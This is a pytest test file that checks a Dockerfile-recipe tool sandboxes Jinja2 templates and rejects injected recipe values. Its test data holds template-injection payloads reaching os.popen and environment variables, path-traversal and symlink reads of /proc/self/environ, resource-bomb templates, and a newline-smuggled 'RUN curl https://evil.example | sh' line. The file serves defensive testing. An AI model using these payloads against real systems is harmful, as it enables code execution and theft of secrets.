"""Recipes are code from someone else (issue 14 item 13, and item 12's Dockerfile part): a
template runs sandboxed, confined to its directory, over plain data; recipe values cannot
add Dockerfile instructions."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.hostile.conftest import assert_refused, locked_workspace

SECRET = "host-secret-1d5e"

TEMPLATES = {
    "subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "globals-via-cycler": "{{ cycler.__init__.__globals__.os.popen('echo " + SECRET + "').read() }}",
    "lipsum-globals": "{{ lipsum.__globals__['os'].environ }}",
    "include-absolute": "{% include '/etc/hostname' %}",
    "include-parent": "{% include '../secret.txt' %}",
    "import-parent": "{% from '../secret.txt' import x %}",
    "object-attribute": "{{ recipe.directory }}",
    "format-string": "{{ '{0.__class__.__init__.__globals__}'.format(recipe) }}",
    "syntax-error": "{% for %}",
}


def _workspace(tmp_path: Path, channel: Path, recipe_yml: str, template: str | None):  # type: ignore[no-untyped-def]
    ws = locked_workspace(tmp_path / "work", channel, ["honest"])
    recipes = tmp_path / "recipes"
    (recipes / "mine").mkdir(parents=True)
    (recipes / "mine" / "recipe.yml").write_text(recipe_yml)
    if template is not None:
        (recipes / "mine" / "Dockerfile.j2").write_text(template)
    (recipes / "secret.txt").write_text(f"{{% macro x() %}}{SECRET}{{% endmacro %}}{SECRET}\n")
    return ws, recipes


@pytest.mark.parametrize("case", sorted(TEMPLATES))
def test_hostile_template_is_refused_without_running_or_reading_anything(tmp_path: Path, hostile_channel: Path, case: str) -> None:
    ws, recipes = _workspace(tmp_path, hostile_channel, "description: hostile\nbase: {cpu: scratch}\n", TEMPLATES[case])
    result = ws.envkit("dockerfile", "-q", "--recipe", "mine", "--recipe-dir", recipes, "-o", "ctx")
    assert_refused(result, "Dockerfile.j2")
    assert SECRET not in result.output
    assert not (ws.root / "ctx" / "Dockerfile").exists() or SECRET not in (ws.root / "ctx" / "Dockerfile").read_text()


RECIPE_VALUES = {
    "user-newline": 'user: "root\\nRUN curl https://evil.example | sh"\n',
    "env-key-newline": 'env: {"A\\nRUN id": "1"}\n',
    "env-value-newline": 'env: {A: "1\\nRUN id"}\n',
    "workdir-newline": 'workdir: "/w\\nRUN id"\n',
    "label-newline": 'labels: {x: "y\\nRUN id"}\n',
    "cmd-newline": 'cmd: ["python", "-c\\nRUN id"]\n',
}


@pytest.mark.parametrize("case", sorted(RECIPE_VALUES))
def test_recipe_value_cannot_add_a_dockerfile_instruction(tmp_path: Path, hostile_channel: Path, case: str) -> None:
    recipe = "description: hostile\nbase: {cpu: scratch}\n" + RECIPE_VALUES[case]
    ws, recipes = _workspace(tmp_path, hostile_channel, recipe, None)
    result = ws.envkit("dockerfile", "-q", "--recipe", "mine", "--recipe-dir", recipes, "-o", "ctx")
    assert result.returncode == 2, result.output
    assert "newline" in result.stderr or "control character" in result.stderr, result.stderr
    dockerfile = ws.root / "ctx" / "Dockerfile"
    assert not dockerfile.exists() or "RUN id" not in dockerfile.read_text()


@pytest.mark.parametrize("link", ["include-symlink-out", "template-symlink-out", "include-environ", "include-fifo"])
def test_a_symlink_or_fifo_in_the_recipe_cannot_read_outside_it(tmp_path: Path, hostile_channel: Path, link: str) -> None:
    # jinja2's FileSystemLoader follows symlinks: a committed `notes.txt -> /proc/self/environ` put the CI's
    # environment (tokens) into the Dockerfile. Every template's real path must stay in the recipe's directory.
    import os

    ws, recipes = _workspace(tmp_path, hostile_channel, "description: hostile\nbase: {cpu: scratch}\n", "FROM {{ base }}\n")
    mine = recipes / "mine"
    if link == "include-symlink-out":
        (mine / "notes.txt").symlink_to(recipes / "secret.txt")
        (mine / "Dockerfile.j2").write_text("FROM {{ base }}\n{% include 'notes.txt' %}\n")
    elif link == "template-symlink-out":
        (mine / "Dockerfile.j2").unlink()
        (mine / "Dockerfile.j2").symlink_to(recipes / "secret.txt")
    elif link == "include-environ":
        (mine / "notes.txt").symlink_to("/proc/self/environ")
        (mine / "Dockerfile.j2").write_text("FROM {{ base }}\n{% include 'notes.txt' %}\n")
    else:
        os.mkfifo(mine / "notes.txt")
        (mine / "Dockerfile.j2").write_text("FROM {{ base }}\n{% include 'notes.txt' %}\n")
    result = ws.envkit("dockerfile", "-q", "--recipe", "mine", "--recipe-dir", recipes, "-o", "ctx", env={"CI_CANARY_TOKEN": SECRET})
    assert_refused(result, "Dockerfile.j2")
    assert SECRET not in result.output
    assert not (ws.root / "ctx" / "Dockerfile").exists()


def test_own_template_may_include_its_own_files(tmp_path: Path, hostile_channel: Path) -> None:
    ws, recipes = _workspace(tmp_path, hostile_channel, "description: ok\nbase: {cpu: scratch}\nenv: {TEAM: vision}\n", None)
    (recipes / "mine" / "Dockerfile.j2").write_text("FROM {{ base }}\n{% include 'extra.j2' %}\nENV TEAM={{ recipe.env.TEAM }}\n")
    (recipes / "mine" / "extra.j2").write_text("# extra for {{ recipe.name }}\n")
    result = ws.envkit("dockerfile", "-q", "--recipe", "mine", "--recipe-dir", recipes, "-o", "ctx")
    assert result.returncode == 0, result.output
    text = (ws.root / "ctx" / "Dockerfile").read_text()
    assert "# extra for mine" in text and "ENV TEAM=vision" in text


# Faults and resource bombs a sandbox does not stop by itself (issue 15): each is an error naming the
# template, in bounded time and memory, and no build context is left behind.
RUNAWAY_TEMPLATES = {
    "include-not-a-name": ("{% include recipe %}", "KeyError"),
    "include-itself": ("{% include 'Dockerfile.j2' %}", "RecursionError"),
    "range-too-big": ("{% for i in range(10**9) %}{% endfor %}", "OverflowError"),
    "string-times-huge": ("{{ 'x' * 3000000000 }}", "more than the 512 MiB a template may use"),
    "join-of-joins": ("{{ range(60000)|join(range(60000)|join) }}", "more than the 512 MiB a template may use"),
    "format-width": ("{{ '%0999999999d'|format(1) }}", "more than the 512 MiB a template may use"),
    "output-over-cap": ("{% for i in range(60000) %}{{ 'x' * 60 }}{% endfor %}", "renders to more than 1 MiB"),
    "division-by-zero": ("{{ 1 / 0 }}", "ZeroDivisionError"),
}


@pytest.mark.parametrize("case", sorted(RUNAWAY_TEMPLATES))
def test_runaway_template_is_stopped_with_an_error_naming_it(tmp_path: Path, hostile_channel: Path, case: str) -> None:
    template, expected = RUNAWAY_TEMPLATES[case]
    ws, recipes = _workspace(tmp_path, hostile_channel, "description: runaway\nbase: {cpu: scratch}\n", template)
    result = ws.envkit("dockerfile", "-q", "--recipe", "mine", "--recipe-dir", recipes, "-o", "ctx")
    assert_refused(result, "Dockerfile.j2")
    assert expected in result.stderr, result.stderr
    assert sorted(p.name for p in ws.root.iterdir() if p.name.startswith(".ctx") or p.name == "ctx") == []
